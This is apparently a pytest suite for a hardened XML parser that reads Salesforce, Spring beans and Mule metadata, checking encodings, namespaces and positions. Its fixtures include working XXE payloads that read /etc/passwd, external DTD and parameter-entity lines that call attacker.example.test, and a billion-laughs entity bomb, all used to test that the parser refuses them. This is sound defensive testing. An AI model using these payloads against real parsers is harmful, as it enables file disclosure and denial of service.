"""The safe XML reader: refuses DTD and entity tricks, reads real metadata, reports errors as values."""
from __future__ import annotations

import socket

import pytest

from apexscan.frontends.xmlsafe import Element, MalformedXml, UnsafeXml, XmlError, load, parse

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<lolz>&lol9;</lolz>
"""

XXE_FILE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE NamedCredential [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<NamedCredential><endpoint>&xxe;</endpoint></NamedCredential>
"""

XXE_HTTP = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE RemoteSiteSetting [<!ENTITY xxe SYSTEM "http://attacker.example.test/steal">]>
<RemoteSiteSetting><url>&xxe;</url></RemoteSiteSetting>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE CustomLabels SYSTEM "http://attacker.example.test/evil.dtd">
<CustomLabels/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example.test/p.dtd"> %remote;]>
<x/>
"""


@pytest.fixture
def no_network(monkeypatch):
    """Fail loudly if anything tries to open a connection."""

    def refuse(*_args, **_kwargs):
        raise AssertionError("the XML reader tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE_FILE, XXE_HTTP, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "xxe-file", "xxe-http", "external-dtd", "parameter-entity"])
def test_dtd_tricks_are_refused_with_a_clear_error_and_nothing_is_read(document, no_network):
    result = parse(document)
    assert isinstance(result, XmlError)
    assert result.unsafe
    assert "DOCTYPE declarations are not allowed" in result.message
    assert "entity expansion" in result.message
    assert result.line == 2
    assert "root:" not in result.message  # nothing of /etc/passwd leaked into the message


def test_load_raises_unsafe_xml_for_a_doctype():
    with pytest.raises(UnsafeXml, match="DOCTYPE"):
        load(BILLION_LAUGHS)


def test_undeclared_entity_reference_is_an_error_not_a_lookup(no_network):
    result = parse(b"<NamedCredential><endpoint>&xxe;</endpoint></NamedCredential>")
    assert isinstance(result, XmlError)
    assert "undefined entity" in result.message
    assert result.line == 1


def test_predefined_entities_and_character_references_are_decoded():
    root = load(b"<label>Fish &amp; Chips &#8364;5 &lt;ok&gt;</label>")
    assert root.text == "Fish & Chips \u20ac5 <ok>"


def test_malformed_xml_is_an_error_value_with_its_line():
    result = parse(b'<?xml version="1.0"?>\n<CustomField>\n  <type>Text</type>\n</CustomFeld>\n')
    assert isinstance(result, XmlError)
    assert not result.unsafe
    assert result.line == 4
    assert "mismatched tag" in result.message
    assert "line 4" in result.message


@pytest.mark.parametrize("document", [b"", b"not xml at all", b"<a><b></a>", b"\x00\x01\x02", b"<a>"])
def test_broken_input_never_raises_from_parse(document):
    assert isinstance(parse(document), XmlError)


def test_load_raises_malformed_xml():
    with pytest.raises(MalformedXml) as info:
        load(b"<a>\n<b></a>")
    assert info.value.line == 2


def test_utf8_bom_is_skipped_and_columns_start_after_it():
    root = load("\ufeff<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<label>Société</label>".encode("utf-8"))
    assert (root.tag, root.text, root.line, root.col) == ("label", "Société", 2, 1)


def test_utf16_with_bom_is_read():
    root = load('<?xml version="1.0" encoding="UTF-16"?><label>Société</label>'.encode("utf-16"))
    assert root.text == "Société"


def test_latin1_declared_encoding_is_honoured():
    data = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<label>Crédit Agricole</label>'.encode("latin-1")
    assert load(data).text == "Crédit Agricole"


def test_windows_1252_and_multibyte_declared_encodings_are_decoded():
    assert load('<?xml version="1.0" encoding="windows-1252"?><v>€</v>'.encode("cp1252")).text == "€"
    assert load('<?xml version="1.0" encoding="Shift_JIS"?><v>日本</v>'.encode("shift_jis")).text == "日本"


def test_unknown_declared_encoding_is_an_error_value():
    result = parse(b'<?xml version="1.0" encoding="klingon-8"?><a/>')
    assert isinstance(result, XmlError)
    assert "unknown encoding 'klingon-8'" in result.message


def test_bytes_invalid_in_the_declared_encoding_are_an_error_value():
    result = parse(b'<?xml version="1.0" encoding="UTF-8"?>\n<a>\xe9t\xe9</a>')
    assert isinstance(result, XmlError)
    assert result.line == 2


def test_tree_has_local_names_attributes_text_and_positions():
    root = load(b"""<?xml version="1.0" encoding="UTF-8"?>
<CustomMetadata xmlns="http://soap.sforce.com/2006/04/metadata" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
    <label>OpenAI</label>
    <values>
        <field>Endpoint__c</field>
        <value xsi:type="xsd:string">callout:OpenAI/v1</value>
    </values>
    <values>
        <field>Model__c</field>
        <value xsi:nil="true"/>
    </values>
</CustomMetadata>
""")
    assert root.tag == "CustomMetadata"
    assert root.attrs == {}  # xmlns declarations are dropped
    assert (root.line, root.col) == (2, 1)
    assert root.findtext("label") == "OpenAI"
    assert root.findtext("missing", "n/a") == "n/a"
    values = root.findall("values")
    assert len(values) == 2
    first = values[0].find("value")
    assert first is not None
    assert first.attrs == {"type": "xsd:string"}
    assert (first.line, first.col) == (6, 9)
    assert values[1].find("value").attrs == {"nil": "true"}
    assert [e.text for e in root.iter("field")] == ["Endpoint__c", "Model__c"]
    assert [e.tag for e in root.iter()][:3] == ["CustomMetadata", "label", "values"]
    assert root.find("nothing") is None


def test_cdata_and_mixed_text_are_kept():
    root = load(b"<content><![CDATA[Hello {!$Input:Account.Name} & <b>]]> tail</content>")
    assert root.text == "Hello {!$Input:Account.Name} & <b> tail"


def test_element_is_immutable():
    root = load(b"<a/>")
    assert isinstance(root, Element)
    with pytest.raises(AttributeError):
        root.tag = "b"  # type: ignore[misc]


# --- a DOCTYPE the caller names (Spring beans files such as Data Loader's process-conf.xml) -------

SPRING_BEANS = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE beans PUBLIC "-//SPRING//DTD BEAN//EN" "http://www.springframework.org/dtd/spring-beans.dtd">
<beans>
    <bean id="accountExtract" class="com.salesforce.dataloader.process.ProcessRunner">
        <property name="name" value="accountExtract &amp; more"/>
    </bean>
</beans>
"""

# Each one tries the accepted document type name with something that is still refused.
BEANS_TRICKS = {
    "billion-laughs": b"""<?xml version="1.0"?>
<!DOCTYPE beans [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<beans>&lol9;</beans>
""",
    "xxe-file": b"""<?xml version="1.0"?>
<!DOCTYPE beans [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<beans><bean id="&xxe;"/></beans>
""",
    "empty-internal-subset": b"""<?xml version="1.0"?>
<!DOCTYPE beans PUBLIC "-//SPRING//DTD BEAN//EN" "http://www.springframework.org/dtd/spring-beans.dtd" []>
<beans/>
""",
    "parameter-entity": b"""<?xml version="1.0"?>
<!DOCTYPE beans [<!ENTITY % remote SYSTEM "http://attacker.example.test/p.dtd"> %remote;]>
<beans/>
""",
    "other-document-type": b"""<?xml version="1.0"?>
<!DOCTYPE lolz SYSTEM "http://attacker.example.test/evil.dtd">
<beans/>
""",
}


def test_spring_beans_doctype_is_accepted_only_when_the_caller_names_it(no_network):
    root = load(SPRING_BEANS, doctypes=("beans",))
    assert root.tag == "beans" and root.line == 3
    bean = root.find("bean")
    assert bean is not None and bean.line == 4
    assert bean.find("property").attrs["value"] == "accountExtract & more"
    refused = parse(SPRING_BEANS)
    assert isinstance(refused, XmlError) and refused.unsafe and refused.line == 2
    assert "DOCTYPE declarations are not allowed" in refused.message


@pytest.mark.parametrize("name", sorted(BEANS_TRICKS))
def test_accepting_the_beans_doctype_still_refuses_entities_and_internal_subsets(name, no_network):
    result = parse(BEANS_TRICKS[name], doctypes=("beans",))
    assert isinstance(result, XmlError), name
    assert result.unsafe
    assert result.line == 2
    assert "root:" not in result.message


@pytest.mark.parametrize("where", ["attribute", "text"])
def test_an_entity_the_external_dtd_might_declare_is_an_error_not_a_lookup(where, no_network):
    # expat would silently drop an undeclared entity in an attribute of a document with an external
    # DTD; the accepted DOCTYPE is blanked out instead, so the reference is an error everywhere.
    entity = b'"&secret;"/>' if where == "attribute" else b'"x">&secret;</property>'
    document = SPRING_BEANS.replace(b'"accountExtract &amp; more"/>', entity)
    result = parse(document, doctypes=("beans",))
    assert isinstance(result, XmlError)
    assert "undefined entity" in result.message
    assert result.line == 5


def test_blanking_the_doctype_keeps_every_position_and_is_linear(no_network):
    windows = SPRING_BEANS.replace(b"\n", b"\r\n").replace(b"<!DOCTYPE beans PUBLIC", b"<!--c-->\r\n<!DOCTYPE  beans\r\n PUBLIC")
    root = load(windows, doctypes=("beans",))
    assert (root.line, root.find("bean").line) == (5, 6)
    assert load(SPRING_BEANS.decode("utf-8"), doctypes=("beans",)).line == 3
    hostile = b"<!-- a -->" * 20000 + b"<?pi x?>" * 20000 + b"<x/>"  # no DOCTYPE after a long prolog
    assert load(hostile, doctypes=("beans",)).tag == "x"


# --- namespaces and positions (readers that match namespaces by URI: Mule) ---------------------------

MULE = b"""<?xml version="1.0" encoding="UTF-8"?>
<mule xmlns="http://www.mulesoft.org/schema/mule/core" xmlns:doc="http://www.mulesoft.org/schema/mule/documentation"
      xmlns:h="http://www.mulesoft.org/schema/mule/http">
  <flow-ref name="send" doc:name="Call the sender"/>
  <h:request doc:name="Post" config-ref="Api"/>
  <other:thing xmlns:other="http://www.mulesoft.org/schema/mule/http" kind="x"/>
  <ee>
    <![CDATA[%dw 2.0
output json
---
payload.Email]]>
  </ee>
</mule>
"""


def test_every_element_keeps_the_uri_its_prefix_is_bound_to():
    root = load(MULE)
    assert (root.tag, root.ns) == ("mule", "http://www.mulesoft.org/schema/mule/core")
    ref, request, other, ee = root.children
    assert (ref.tag, ref.ns) == ("flow-ref", "http://www.mulesoft.org/schema/mule/core")
    # two prefixes for one namespace are the same namespace
    assert request.ns == other.ns == "http://www.mulesoft.org/schema/mule/http"
    assert (request.tag, other.tag) == ("request", "thing")


def test_an_unprefixed_attribute_wins_over_a_prefixed_one_of_the_same_local_name():
    ref = load(MULE).children[0]
    assert ref.attrs["name"] == "send"  # not doc:name, whatever the attribute order
    assert ref.qattr("http://www.mulesoft.org/schema/mule/documentation", "name") == "Call the sender"
    assert ref.qattr("urn:other", "name") == ""
    assert load(MULE).children[1].attrs["name"] == "Post"  # no unprefixed one: the prefixed one, as before


def test_a_cdata_section_records_where_its_text_starts():
    ee = load(MULE).children[3]
    offset = ee.text.index("payload")
    assert ee.text_position(offset) == (11, 1)
    assert ee.text_position(ee.text.index("%dw")) == (8, 14)
    assert ee.text_position(0) == (ee.line, ee.col)  # before the section: the start tag


def test_metadata_without_namespaces_reads_as_before():
    root = load(b'<CustomLabels><labels xmlns:xsi="urn:x" xsi:nil="true"><value>v</value></labels></CustomLabels>')
    assert root.ns == "" and root.children[0].attrs == {"nil": "true"}
